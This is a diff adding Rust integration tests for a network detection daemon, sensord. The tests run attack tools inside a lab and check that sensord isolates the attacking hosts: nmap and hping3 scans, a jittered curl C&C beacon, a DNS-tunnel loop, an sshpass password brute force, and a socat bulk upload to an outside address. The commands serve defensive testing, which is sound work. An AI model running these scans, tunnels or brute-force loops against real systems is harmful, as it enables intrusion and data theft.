@@ -1,0 +1,255 @@
+//! Live detection in the lab: real attack tools run from the lab's hosts,
+//! sensord detects them from the datapath's telemetry and isolates the host
+//! as its response policy says, while ordinary traffic raises nothing.
+
+use crate::support::lab::{
+    self, background, benign_traffic, http, incidents_of, isolated, run, sensorctl_json,
+    start_sshd, wait_for,
+};
+
+/// Isolate on any clear detection; block the C&C of a beacon.
+const POLICY: &str = r#"
+[response]
+[[response.rule]]
+detectors = ["*"]
+min_score = 70
+action = "isolate"
+ttl = "10m"
+[[response.rule]]
+detectors = ["beacon"]
+min_score = 70
+action = "block_peer"
+ttl = "10m"
+"#;
+
+fn detectors(lab: &labnet::Lab, host: &str) -> Vec<String> {
+    incidents_of(lab, host)
+        .iter()
+        .flat_map(|i| i["detectors"].as_array().cloned().unwrap_or_default())
+        .filter_map(|d| d.as_str().map(String::from))
+        .collect()
+}
+
+fn assert_isolated_within(lab: &labnet::Lab, host: &str, secs: u64, what: &str) {
+    let took = wait_for(secs, || isolated(lab).iter().any(|h| h == host));
+    assert!(
+        took.is_some(),
+        "{what}: {host} was not isolated within {secs}s; incidents: {:?}; sensord log:\n{}",
+        incidents_of(lab, host),
+        std::fs::read_to_string(lab.sensord_log()).unwrap_or_default()
+    );
+}
+
+/// A first web request: a completed handshake, so sensord knows the
+/// address is really the host's (the anti-spoofing rule).
+fn browse(lab: &labnet::Lab, host: &str) {
+    assert!(http(lab, host, "http://203.0.113.80/"), "{host} browses");
+}
+
+#[test]
+fn syn_and_connect_scans_isolate_the_scanner_and_a_false_positive_sticks() {
+    let lab = lab::start("detscan", POLICY);
+    let ntp = background(&lab, "dns", "ntp", "socat UDP4-RECVFROM:123,fork EXEC:cat");
+    let benign = benign_traffic(&lab, "office3");
+
+    browse(&lab, "office1");
+    run(
+        &lab,
+        "office1",
+        "nmap -sS -n -Pn -p 1-200 --max-retries 1 10.20.0.21",
+    );
+    assert_isolated_within(&lab, "10.10.0.11", 10, "nmap -sS");
+    assert!(detectors(&lab, "10.10.0.11").contains(&"scan.vertical".into()));
+    assert!(!http(&lab, "office1", "http://203.0.113.80/"), "cut off");
+
+    // The operator says it was the IT team's scanner: released as a false
+    // positive, the same detector does not isolate it again.
+    let out = lab
+        .sensorctl(&["release", "10.10.0.11", "--false-positive"])
+        .unwrap();
+    assert!(out.contains("marked false positive"), "{out}");
+    run(
+        &lab,
+        "office1",
+        "nmap -sS -n -Pn -p 201-400 --max-retries 1 10.20.0.21",
+    );
+    std::thread::sleep(std::time::Duration::from_secs(3));
+    assert!(
+        !isolated(&lab).contains(&"10.10.0.11".to_string()),
+        "not again"
+    );
+    let marked = incidents_of(&lab, "10.10.0.11");
+    assert!(
+        marked.iter().any(|i| i["false_positive"] == true),
+        "{marked:?}"
+    );
+
+    browse(&lab, "office2");
+    run(
+        &lab,
+        "office2",
+        "nmap -sT -n -Pn -p 1-200 --max-retries 1 203.0.113.80",
+    );
+    assert_isolated_within(&lab, "10.10.0.12", 10, "nmap -sT");
+
+    // Ordinary traffic ran all along and raised nothing.
+    drop((benign, ntp));
+    assert!(
+        incidents_of(&lab, "10.10.0.13").is_empty(),
+        "benign office3"
+    );
+    let isolated = isolated(&lab);
+    assert_eq!(isolated, vec!["10.10.0.12".to_string()], "{isolated:?}");
+    // The incident's timeline names the action taken.
+    let id = incidents_of(&lab, "10.10.0.12")[0]["id"].to_string();
+    let incident = sensorctl_json(&lab, &["incident", &id]);
+    let timeline = incident["timeline"].as_array().unwrap();
+    assert!(
+        timeline.iter().any(|t| t["action"] == "isolate"),
+        "{incident}"
+    );
+}
+
+#[test]
+fn udp_slow_and_hping3_scans_are_detected() {
+    let lab = lab::start("detscan2", POLICY);
+    // Closed UDP ports answer with ICMP port unreachable; Linux rate-limits
+    // those to one a second per peer, which would make the test slow.
+    lab.host("records1")
+        .netns
+        .sysctl("net.ipv4.icmp_ratelimit", "0")
+        .unwrap();
+    for h in ["office1", "office2", "office3"] {
+        browse(&lab, h);
+    }
+    let udp = background(
+        &lab,
+        "office1",
+        "nmap-udp",
+        "nmap -sU -n -Pn -p 1-100 --max-retries 0 10.20.0.21",
+    );
+    let slow = background(
+        &lab,
+        "office2",
+        "nmap-slow",
+        "nmap -sS -T2 -n -Pn -p 1-25 203.0.113.80",
+    );
+    let hping = background(
+        &lab,
+        "office3",
+        "hping3",
+        "hping3 -S -p ++1 -c 100 -i u20000 10.20.0.21",
+    );
+    assert_isolated_within(&lab, "10.10.0.11", 30, "nmap -sU");
+    assert_isolated_within(&lab, "10.10.0.13", 30, "hping3");
+    assert_isolated_within(&lab, "10.10.0.12", 60, "nmap -T2");
+    for h in ["10.10.0.11", "10.10.0.12", "10.10.0.13"] {
+        let d = detectors(&lab, h);
+        assert!(d.iter().any(|d| d.starts_with("scan.")), "{h}: {d:?}");
+    }
+    drop((udp, slow, hping));
+}
+
+#[test]
+fn beacon_dns_tunnel_and_ssh_brute_force_are_detected() {
+    let lab = lab::start("detc2", POLICY);
+    start_sshd(&lab, "records1");
+    for h in ["office1", "office2", "office3"] {
+        browse(&lab, h);
+    }
+    // A jittered beacon: every 1 s +- 0.3 s to the C&C server.
+    let beacon = background(
+        &lab,
+        "office1",
+        "beacon",
+        "for i in $(seq 40); do curl -s -o /dev/null -m 2 http://203.0.113.66:8080/; \
+         sleep $(awk -v r=$(od -An -N2 -tu2 /dev/urandom | tr -d ' ') 'BEGIN{printf \"%.2f\", 0.7 + (r % 60) / 100}'); done",
+    );
+    // Data smuggled in DNS names: long base32 labels, TXT queries.
+    let tunnel = background(
+        &lab,
+        "office2",
+        "dns-tunnel",
+        "for i in $(seq 30); do \
+           l=$(head -c 30 /dev/urandom | base32 | tr -d '=' | tr 'A-Z' 'a-z'); \
+           dig +short +time=1 +tries=1 @203.0.113.53 TXT $l.$i.t.c2.lab >/dev/null; \
+           sleep 0.2; done",
+    );
+    // Password guessing against sshd.
+    let brute = background(
+        &lab,
+        "office3",
+        "ssh-brute",
+        "for p in 123456 password admin letmein qwerty 111111 dragon monkey sunshine \
+                  master welcome shadow; do \
+           sshpass -p $p ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
+             -o PreferredAuthentications=password -o ConnectTimeout=3 admin@10.20.0.21 true; \
+         done",
+    );
+    assert_isolated_within(&lab, "10.10.0.12", 30, "DNS tunnel");
+    assert_isolated_within(&lab, "10.10.0.13", 40, "SSH brute force");
+    assert_isolated_within(&lab, "10.10.0.11", 60, "beacon");
+    assert!(detectors(&lab, "10.10.0.11").contains(&"beacon".into()));
+    assert!(detectors(&lab, "10.10.0.12")
+        .iter()
+        .any(|d| d.starts_with("dns.")));
+    assert!(detectors(&lab, "10.10.0.13")
+        .iter()
+        .any(|d| d.starts_with("bruteforce")));
+    // The beacon rule also blocked the C&C address.
+    let list = sensorctl_json(&lab, &["list"]);
+    let blocked = list
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|e| e["kind"] == "block" && e["target"] == "203.0.113.66/32");
+    let blocked = blocked.unwrap_or_else(|| panic!("C&C not blocked: {list}"));
+    assert!(blocked["origin"].as_str().unwrap().starts_with("auto:"));
+    assert!(blocked["incident"].as_u64().is_some(), "{blocked}");
+    drop((beacon, tunnel, brute));
+}
+
+#[test]
+fn bulk_upload_is_detected_and_large_downloads_are_not() {
+    let lab = lab::start("detexfil", POLICY);
+    let _sink = background(
+        &lab,
+        "web",
+        "sink",
+        "socat -u TCP-LISTEN:9000,fork,reuseaddr OPEN:/dev/null",
+    );
+    wait_for(10, || {
+        lab.host("web")
+            .netns
+            .exec("ss", &["-Hlnt", "sport", "=", ":9000"])
+            .map(|o| !o.trim().is_empty())
+            .unwrap_or(false)
+    });
+    browse(&lab, "office1");
+    // 20 downloads of 4 MB (80 MB in) on office2, 80 MB out from office1.
+    let downloads = background(
+        &lab,
+        "office2",
+        "downloads",
+        "for i in $(seq 20); do curl -s -o /dev/null http://203.0.113.80/big.bin; done",
+    );
+    run(
+        &lab,
+        "office1",
+        "head -c 80000000 /dev/zero | socat -u - TCP4:203.0.113.80:9000",
+    );
+    assert_isolated_within(&lab, "10.10.0.11", 20, "bulk upload");
+    assert!(detectors(&lab, "10.10.0.11").contains(&"exfiltration".into()));
+    wait_for(30, || {
+        lab.host("office2")
+            .netns
+            .exec("pgrep", &["-f", "big.bin"])
+            .is_err()
+    });
+    std::thread::sleep(std::time::Duration::from_secs(3));
+    assert!(
+        incidents_of(&lab, "10.10.0.12").is_empty(),
+        "downloads are not exfiltration"
+    );
+    drop(downloads);
+}
